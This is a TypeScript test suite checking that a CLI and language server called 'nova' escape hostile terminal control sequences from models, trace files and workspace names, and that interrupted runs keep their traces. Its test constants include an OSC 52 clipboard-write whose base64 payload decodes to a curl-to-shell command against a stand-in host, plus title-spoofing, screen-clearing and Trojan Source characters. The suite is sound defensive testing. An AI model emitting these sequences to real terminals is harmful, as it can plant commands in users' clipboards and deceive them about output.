/**
 * What a person's terminal or log receives is inert, and a run ends with its trace however it is
 * stopped. Each hole is met as a user meets it: the built CLI (dist/cli.js) or language server
 * (dist/server.js) in its own process, a hostile model on a scripted Messages API server on
 * loopback, a workspace with hostile file names and content, `| head -3`, signals and `kill -9`.
 */
import * as assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import * as fs from 'node:fs/promises';
import * as path from 'node:path';
import { PassThrough } from 'node:stream';
import { TerminalOutput } from '../../../src/cli/terminalOutput';
import { inertText } from '../../../src/core/inertText';
import type { ModelClient } from '../../../src/core/model/client';
import { JsonlSpanProcessor, loadTrace, type LoadedTrace } from '../../../src/core/trace/jsonl';
import type { ParamsOf } from '../../../src/protocol/message';
import { runSpan, runStart } from '../../../src/protocol/run';
import { sessionConfigure, sessionProblem } from '../../../src/protocol/session';
import { repoRoot } from '../../../tools/paths';
import { startScriptedServer, type ScriptedServer, type ScriptedTurn } from '../../support/anthropicServer';
import { LspServer, serverBundle } from '../../support/lspServer';
import { examples } from '../../support/payloads';
import { rejection } from '../server/sampleServer';
import { teamOrchestrator, tempWorkspace } from '../../support/team';

const cli = path.join(repoRoot, 'dist', 'cli.js');

// What a hostile model or workspace would send a terminal.
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'; // writes the clipboard
const OSC0 = '\x1b]0;all tests passed\x07'; // sets the window title
const CSI_CLEAR = '\x1b[2J\x1b[H'; // clears the screen
const RLO = '\u202e'; // reverses what follows (Trojan Source)
const C1_CSI = '\u009b31m'; // the 8-bit CSI, which some terminals act on
const hostile = `${OSC52}${OSC0}${CSI_CLEAR}${RLO}txt.exe${C1_CSI}`;

/** Characters a terminal acts on: C0 but newline and tab, DEL, C1, and bidirectional controls. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const actionable = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

function assertInert(text: string, what: string): void {
  const found = actionable.exec(text);
  assert.equal(found, null, `${what} holds U+${found?.[0].codePointAt(0)?.toString(16).padStart(4, '0')} at ${found?.index}: ${JSON.stringify(text.slice(Math.max(0, (found?.index ?? 0) - 40), (found?.index ?? 0) + 40))}`);
}

/** The escaped forms a person sees instead. */
function assertShowsEscaped(text: string, what: string): void {
  for (const shown of ['\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07', '\\x1b]0;all tests passed\\x07', '\\x1b[2J', '<U+202E>txt.exe', '\\x9b31m']) {
    assert.ok(text.includes(shown), `${what} shows ${shown}`);
  }
}

interface Exited { code: number | null; signal: NodeJS.Signals | null; stdout: string; stderr: string }

/** The built CLI in its own process, with only the environment given (no ANTHROPIC_* of ours). */
function startNova(args: readonly string[], env: NodeJS.ProcessEnv = {}) {
  const clean = Object.fromEntries(Object.entries(process.env).filter(([name]) => !name.startsWith('ANTHROPIC_')));
  const child = spawn(process.execPath, [cli, ...args], { cwd: repoRoot, env: { ...clean, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
  child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
  const exited = new Promise<Exited>((resolve) => child.on('close', (code, signal) => resolve({ code, signal, stdout, stderr })));
  return { child, exited, output: () => stdout };
}

/** Resolves once `check` holds, polling; rejects after `ms`. */
async function until(check: () => boolean, what: string, ms = 20_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!check()) {
    if (Date.now() > deadline) throw new Error(`Timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

async function onlyTrace(folder: string): Promise<{ file: string; trace: LoadedTrace }> {
  const traces = path.join(folder, '.nova', 'traces');
  const names = await fs.readdir(traces);
  assert.equal(names.length, 1, `one trace file: ${names.join(', ')}`);
  const file = path.join(traces, names[0] ?? '');
  return { file, trace: await loadTrace(file) };
}

const modelCalls = (server: ScriptedServer) => server.requests.filter((request) => request.path === '/v1/messages').length;

const tool = (name: string, input: unknown, text?: string): ScriptedTurn => ({
  content: [...(text ? [{ type: 'text' as const, text }] : []), { type: 'tool_use' as const, name, input }],
});

describe('security: what reaches a terminal or a log is inert, and a stopped run keeps its trace', function () {
  this.timeout(90_000);
  const key = 'sk-ant-terminal-SECRET-41';
  let server: ScriptedServer;
  let workspace: Awaited<ReturnType<typeof tempWorkspace>>;
  before(function () {
    if (!existsSync(cli) || !existsSync(serverBundle)) throw new Error('dist/ is missing: run `npm run build` before the unit tests');
  });
  beforeEach(async () => {
    server = await startScriptedServer({ apiKey: key });
    // A cloned repository's file, with its own escape sequences in a comment the diff shows as context.
    workspace = await tempWorkspace({ 'src/board.ts': `// board ${OSC0}${RLO}\nexport function same(a: string, b: string): boolean {\n  return a == b;\n}\n` });
  });
  afterEach(async () => {
    await server.close();
    await workspace.cleanup();
  });
  const claude = () => ({ ANTHROPIC_API_KEY: key, ANTHROPIC_BASE_URL: server.baseURL });

  it('escapes the text each control character becomes, leaving newlines, tabs and other Unicode alone, and is idempotent', () => {
    assert.equal(inertText(`a${OSC52}b`), 'a\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07b');
    assert.equal(inertText('\x00\x08\x0b\x0d\x7f\u0085\u009b'), '\\x00\\x08\\x0b\\x0d\\x7f\\x85\\x9b');
    assert.equal(inertText(`left${RLO}right\u2066\u200b`), 'left<U+202E>right<U+2066><U+200B>');
    assert.equal(inertText('\udb40\udc41'), '<U+E0041>', 'a Unicode tag character, which smuggles text past a reader');
    const plain = 'line one\n\tindented — ✗ ⚖ 日本語 é 👍\n';
    assert.equal(inertText(plain), plain);
    assert.equal(inertText(inertText(hostile)), inertText(hostile));
  });

  it("the CLI's output escapes a pair split across writes whole, and drops writes once its reader is gone", () => {
    const target = new PassThrough({ decodeStrings: false, encoding: 'utf8' });
    const closed: string[] = [];
    const out = new TerminalOutput(target, (error) => closed.push(error.message));
    out.write('tag \udb40');
    out.write('\udc41 end\x1b[2J\n');
    assert.equal(target.read(), 'tag <U+E0041> end\\x1b[2J\n');
    target.emit('error', new Error('write EPIPE'));
    out.write('after');
    assert.deepEqual(closed, ['write EPIPE']);
    assert.equal(out.closed, true);
    assert.equal(target.read(), null);
  });

  it('nova run and nova trace show print model text, tool names, proposals and workspace content escaped', async () => {
    const proposal = {
      ...examples.ChangeProposal,
      summary: `Strict equality ${OSC52}`,
      files: [{ path: 'src/board.ts', hunks: [{ startLine: 3, before: '  return a == b;', after: `  return a === b; // ${hostile}`, rationale: 'strict' }] }],
    };
    server.enqueue(
      // A tool no agent has, named to act on the terminal: refused, and its name printed.
      tool(`read_file${OSC0}${RLO}`, { path: `src/${hostile}.ts` }, `Reading first. ${hostile}\n`),
      tool('handoff_to_planner', { reason: `a refactor ${hostile}`, payload: { ...examples.RoutedTask, summary: `Replace == ${OSC52}` } }, `Routing ${CSI_CLEAR}this.`),
      tool('handoff_to_refactorer', { reason: 'one step', payload: examples.RefactorRequest }),
      tool('handoff_to_reviewer', { reason: 'ready', contract: 'ChangeProposal', payload: proposal }),
      tool('submit_ReviewVerdict', examples.ReviewVerdict),
      tool('submit_Opinion', { stance: 'support', reason: `fine ${hostile}` }),
    );
    const run = await startNova(['run', '--workspace', workspace.folder, `use strict equality ${OSC0}`], claude()).exited;
    assert.equal(run.code, 0, run.stderr + run.stdout);
    assertInert(run.stdout, 'nova run stdout');
    assertInert(run.stderr, 'nova run stderr');
    assertShowsEscaped(run.stdout, 'nova run stdout');
    assert.match(run.stdout, /✗ read_file\\x1b\]0;all tests passed\\x07<U\+202E> /, 'the refused tool, by its escaped name');
    assert.match(run.stdout, /^ \/\/ board \\x1b\]0;all tests passed\\x07<U\+202E>$/m, "the workspace file's line, as diff context");
    assert.match(run.stdout, /^\+ {2}return a === b; \/\/ \\x1b\]52;c;/m, 'the proposed line');
    assert.match(run.stdout, /Routing \\x1b\[2J\\x1b\[Hthis\./, 'streamed text, escaped across its chunks');

    const { file, trace } = await onlyTrace(workspace.folder);
    assert.deepEqual(trace.problems, []);
    assert.ok(trace.spans.some((span) => span.kind === 'tool_call' && span.tool === `read_file${OSC0}${RLO}`), 'the trace keeps what the model sent, exactly');
    const shown = await startNova(['trace', 'show', file]).exited;
    assert.equal(shown.code, 0, shown.stderr);
    assertInert(shown.stdout, 'nova trace show stdout');
    assert.match(shown.stdout, /^run .*"use strict equality \\x1b\]0;all tests passed\\x07" → completed$/m);
    assert.match(shown.stdout, /read_file\\x1b\]0;all tests passed\\x07<U\+202E> .* → refused/);
    assert.match(shown.stdout, /says: Reading first\. \\x1b\]52;c;/);
  });

  it('nova trace show prints a planted trace file inert: names, tasks, models and damaged lines', async () => {
    // A cloned repository can ship its own .nova/traces: every field of a span is the file's author's.
    const base = { runId: 'r1', parentId: 's1', startedAt: 1, endedAt: 2 };
    const lines = [
      { ...base, id: 's1', parentId: null, kind: 'run', task: hostile, entryAgent: `concierge${RLO}`, status: `completed${OSC0}` },
      { ...base, id: 's2', kind: 'agent', agent: `planner${OSC52}`, accepted: `RoutedTask${C1_CSI}`, outcome: 'handed_off' },
      { ...base, id: 's3', kind: 'model_call', agent: 'planner', provider: 'anthropic', model: `claude${CSI_CLEAR}`, usage: { inputTokens: 1, outputTokens: 1, cacheReadTokens: 0, cacheCreationTokens: 0 }, latencyMs: 1, costUsd: 0, stopReason: `end_turn${OSC0}` },
      { ...base, id: 's4', kind: 'decision', agent: 'reviewer', decision: { kind: `change.approval${RLO}`, owner: `reviewer${OSC52}`, outcome: `approve${CSI_CLEAR}`, rationale: '', proposedOutcome: 'approve', opinions: [], answers: [], dissent: [], settledBy: `owner${C1_CSI}`, rounds: 1 } },
    ].map((span) => JSON.stringify(span));
    const file = path.join(workspace.folder, '.nova', 'traces', 'r1.jsonl');
    await fs.mkdir(path.dirname(file), { recursive: true });
    // JSON escapes C0 controls as \u001b; a raw ESC, C1 or RLO byte in a damaged line reaches the error message as it is.
    await fs.writeFile(file, `${lines.join('\n')}\n{"broken": "${OSC52}${RLO}${C1_CSI}\n`);
    const shown = await startNova(['trace', 'show', file]).exited;
    assert.equal(shown.code, 0, shown.stderr);
    assertInert(shown.stdout, 'nova trace show stdout');
    assert.match(shown.stdout, /^(✗ )?run r1: "\\x1b\]52;c;.*" → completed\\x1b\]0;all tests passed\\x07$/m);
    assert.match(shown.stdout, /^ {2}(✗ )?planner\\x1b\]52;c;/m);
    assert.match(shown.stdout, /model claude\\x1b\[2J/);
    assert.match(shown.stdout, /decision change\.approval<U\+202E> by reviewer\\x1b\]52/);
    assert.match(shown.stdout, /damaged line 5: /);
  });

  it('nova run | head -3 ends quietly with exit code 141 and its trace written', async () => {
    server.enqueue(
      tool('handoff_to_planner', { reason: 'a refactor', payload: examples.RoutedTask }, 'one\ntwo\nthree\nfour\n'),
      // Answered after head has gone at the latest: the planner's first words meet the closed pipe.
      { ...tool('handoff_to_refactorer', { reason: 'one step', payload: examples.RefactorRequest }, 'planning\n'), fault: { kind: 'slowFirstByte', ms: 1_500 } },
      // Never answered in time: only the closed pipe can end the run before the test's timeout.
      { ...tool('submit_ChangeProposal', examples.ChangeProposal), fault: { kind: 'slowFirstByte', ms: 60_000 } },
    );
    const script = 'set -o pipefail; "$0" "$1" run --workspace "$2" "use strict equality" | head -3; echo "nova exited $?" >&2';
    const clean = Object.fromEntries(Object.entries(process.env).filter(([name]) => !name.startsWith('ANTHROPIC_')));
    const shell = spawn('bash', ['-c', script, process.execPath, cli, workspace.folder], { cwd: repoRoot, env: { ...clean, ...claude() }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    shell.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
    shell.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    const started = Date.now();
    await new Promise((resolve) => shell.on('close', resolve));
    assert.ok(Date.now() - started < 30_000, 'ended by the closed pipe, not by the slow model');
    assert.equal(stdout.split('\n').length, 4, `head's three lines: ${stdout}`);
    assert.equal(stderr, 'nova exited 141\n', 'no stack trace, no EPIPE message: only the exit code');
    const { trace } = await onlyTrace(workspace.folder);
    assert.deepEqual(trace.problems, []);
    assert.equal(trace.tree.root?.span.kind === 'run' && trace.tree.root.span.status, 'cancelled');
    // Where the pipe closes is head's choice (likely while the concierge still streams): the run stops there.
    assert.equal(trace.tree.root?.children[0]?.span.kind === 'agent' && trace.tree.root.children[0].span.agent, 'concierge');
  });

  for (const [signal, code] of [['SIGINT', 130], ['SIGTERM', 143], ['SIGHUP', 129]] as const) {
    it(`${signal} ends a run as cancelled (exit code ${code}) with its trace flushed`, async () => {
      server.enqueue(
        tool('handoff_to_planner', { reason: 'a refactor', payload: examples.RoutedTask }, 'Routing this refactor to the planner.'),
        { ...tool('handoff_to_refactorer', { reason: 'one step', payload: examples.RefactorRequest }), fault: { kind: 'slowFirstByte', ms: 60_000 } },
      );
      const nova = startNova(['run', '--workspace', workspace.folder, 'use strict equality'], claude());
      await until(() => modelCalls(server) === 2, "the planner's model call");
      nova.child.kill(signal);
      const ended = await nova.exited;
      assert.equal(ended.code, code, ended.stderr);
      assert.match(ended.stderr, new RegExp(`^nova: ${signal}: cancelling the run and writing its trace`));
      assert.doesNotMatch(ended.stderr, /\n\s+at /, 'no stack trace');
      assert.match(ended.stdout, /CANCELLED/);
      const { trace } = await onlyTrace(workspace.folder);
      assert.deepEqual(trace.problems, []);
      const run = trace.tree.root?.span;
      assert.equal(run?.kind === 'run' && run.status, 'cancelled');
      assert.deepEqual(trace.tree.root?.children.map((node) => node.span.kind === 'agent' && node.span.agent), ['concierge', 'planner']);
    });
  }

  it('a second stop signal exits at once when the cancellation is held up', async () => {
    // The CLI's own handler, in a process whose cancellation never finishes (a tool that ignores the abort).
    const interrupt = path.join(repoRoot, 'out', 'src', 'cli', 'interrupt.js');
    const output = path.join(repoRoot, 'out', 'src', 'cli', 'terminalOutput.js');
    const script = `
      const { cancelOnStopSignals } = require(${JSON.stringify(interrupt)});
      const { TerminalOutput } = require(${JSON.stringify(output)});
      const controller = new AbortController();
      cancelOnStopSignals(controller, new TerminalOutput(process.stderr));
      controller.signal.addEventListener('abort', () => console.log('aborted: ' + controller.signal.reason.message));
      setInterval(() => {}, 1000);
      console.log('ready');`;
    const child = spawn(process.execPath, ['-e', script], { stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    const exited = new Promise<number | null>((resolve) => child.on('close', (code) => resolve(code)));
    await until(() => stdout.includes('ready'), 'the script');
    child.kill('SIGINT');
    await until(() => stdout.includes('aborted: cancelled by SIGINT'), 'the cancellation');
    await new Promise((resolve) => setTimeout(resolve, 200));
    assert.equal(child.exitCode, null, 'the first signal only cancels');
    child.kill('SIGINT');
    assert.equal(await exited, 130);
    assert.match(stderr, /^nova: SIGINT: cancelling the run and writing its trace \(Ctrl-C again to exit at once\)\.\nnova: SIGINT while cancelling: exiting now/);
  });

  it('a cancelled run ends, with its trace, even when the model client ignores the signal', async () => {
    // What the Anthropic SDK's stream can do when aborted between its last block and its end.
    const deaf: ModelClient = {
      provider: 'deaf',
      countTokens: async () => 10,
      complete: () => new Promise<never>(() => undefined),
    };
    const file = path.join(workspace.folder, 'deaf.jsonl');
    const { orchestrator } = await teamOrchestrator(deaf, workspace.folder, { processors: [new JsonlSpanProcessor(file)] });
    const controller = new AbortController();
    orchestrator.events.on((event) => event.type === 'agent_start' && setTimeout(() => controller.abort(new Error('cancelled by SIGTERM')), 50));
    const result = await orchestrator.run({ text: 'refactor' }, { signal: controller.signal });
    assert.equal(result.status, 'cancelled');
    const trace = await loadTrace(file);
    assert.equal(trace.tree.root?.span.kind === 'run' && trace.tree.root.span.status, 'cancelled');
    assert.ok(trace.spans.some((span) => span.kind === 'model_call' && span.stopReason === 'error'), 'the abandoned call, ended');
  });

  it('a language server killed (kill -9) mid-run leaves a trace that reloads up to the last finished span', async () => {
    const { server: lsp } = await LspServer.start({ folders: [workspace.folder] });
    try {
      await lsp.request(sessionConfigure, { provider: 'anthropic', apiKey: key, baseURL: server.baseURL, trusted: true, commandAllowlist: [] });
      server.enqueue(
        tool('read_file', { path: 'src/board.ts' }, 'Reading the board.'),
        tool('handoff_to_planner', { reason: 'a refactor', payload: examples.RoutedTask }),
        { ...tool('handoff_to_refactorer', { reason: 'one step', payload: examples.RefactorRequest }), fault: { kind: 'slowFirstByte', ms: 60_000 } },
      );
      const { runId } = await lsp.request(runStart, { task: 'use strict equality' });
      await until(() => modelCalls(server) === 3, "the planner's model call");
      // Every span the client heard of has ended: the JSONL store got it before the client did.
      const heard = () => lsp.notifications(runSpan).filter((event) => event.runId === runId).map((event) => event.span);
      await until(() => heard().some((span) => span.kind === 'handoff'), 'the handoff span');
      // The spans that end before the planner's model call (its input's validation) have time to arrive.
      await new Promise((resolve) => setTimeout(resolve, 500));
      lsp.process.kill('SIGKILL');
      await lsp.exited();
      const { trace } = await onlyTrace(workspace.folder);
      assert.deepEqual(trace.problems, [], 'no line cut off');
      assert.deepEqual(trace.spans, heard(), 'every span that ended, in order, and nothing else');
      assert.ok(trace.spans.some((span) => span.kind === 'tool_call' && span.tool === 'read_file' && span.status === 'ok'));
      assert.equal(trace.tree.root, undefined, 'the run span never ended');
      assert.ok(trace.tree.orphans.length > 0, "the concierge's finished work, under the agent span that never ended");
    } finally {
      await lsp.stop();
    }
  });

  it("the language server's log lines, session problems and error replies are inert", async () => {
    // A folder and an agent file named to act on a terminal (a cloned repository chooses both names).
    const folder = path.join(workspace.folder, `repo${OSC0}${RLO}`);
    await fs.mkdir(path.join(folder, '.nova', 'agents'), { recursive: true });
    await fs.writeFile(path.join(folder, '.nova', 'agents', `evil${OSC52}.md`), `---\nname: evil\ndescription: ${hostile}\nrole: specialist\ntools: [teleport${C1_CSI}]\naccepts: [RoutedTask]\nreturns: Answer\n---\nBody.\n`);
    await fs.writeFile(path.join(folder, 'a.ts'), 'export const a = 1;\n');
    const { server: lsp } = await LspServer.start({ folders: [folder] });
    try {
      const ready = (await lsp.waitFor('window/logMessage', (params) => /ready/.test((params as { message: string }).message))) as { message: string };
      assertInert(ready.message, 'the ready log line');
      assert.ok(ready.message.includes('repo\\x1b]0;all tests passed\\x07<U+202E>'), ready.message);

      await lsp.request(sessionConfigure, { provider: 'offline', trusted: true, commandAllowlist: [] });
      await lsp.request(runStart, { task: 'explain a.ts' });
      const problem = (await lsp.waitFor(sessionProblem.method, (params) => /evil/.test((params as ParamsOf<typeof sessionProblem>).message))) as ParamsOf<typeof sessionProblem>;
      assertInert(problem.message, 'the session problem');
      assert.ok(problem.message.includes('evil\\x1b]52;c;'), problem.message);
      const refused = await rejection(lsp.request(runStart, { task: 'explain a.ts', agent: `nobody${OSC0}` }));
      assertInert(refused.message, 'an error reply');
      assert.match(refused.message, /No agent named "nobody\\x1b\]0;all tests passed\\x07"/);
      for (const item of lsp.received.filter((received) => received.method === 'window/logMessage' || received.method === sessionProblem.method)) {
        assertInert((item.params as { message: string }).message, item.method);
      }
    } finally {
      await lsp.stop();
    }
  });
});
